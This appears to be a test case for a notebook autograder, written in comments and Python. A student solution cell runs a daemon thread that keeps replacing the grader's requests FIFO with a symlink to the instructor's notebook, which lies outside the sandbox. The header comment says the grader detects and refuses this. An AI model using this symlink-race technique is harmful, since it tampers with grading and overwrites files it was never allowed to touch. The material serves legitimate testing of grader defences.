# A thread started from a cell keeps watching the kernel's scratch folder (the parent
# of its HOME, shared with the grader) for the FIFOs through which the kernel answers
# the trusted verdict after its last cell, and replaces the requests FIFO with a link
# to the instructor's Part 1 notebook (a path outside the sandbox, found from the
# working folder). Were the grader to follow it, it would write its requests into that
# notebook. It opens both FIFOs without following links and only as FIFOs: the kernel's
# channel is refused, the student's cells run again in a fresh process, and every point
# is as for the honest solution.

# %% p1_e1_solution
import glob
import os
import threading
import time


def _cambia_el_canal():
    carpeta = os.path.dirname(os.environ["HOME"])
    objetivo = os.path.normpath(os.path.join(os.getcwd(), "..", "..", "..", "source", "lab2",
                                             "parte1_numpy.ipynb"))
    while True:
        for ruta in glob.glob(os.path.join(carpeta, "verdict-*", "requests")):
            try:
                if not os.path.islink(ruta):
                    os.unlink(ruta)
                    os.symlink(objetivo, ruta)
            except OSError:
                pass
        time.sleep(0.002)


threading.Thread(target=_cambia_el_canal, daemon=True).start()


def zero_pad(X, pad):
    return np.pad(X, ((0, 0), (pad, pad), (pad, pad), (0, 0)), mode="constant", constant_values=0)
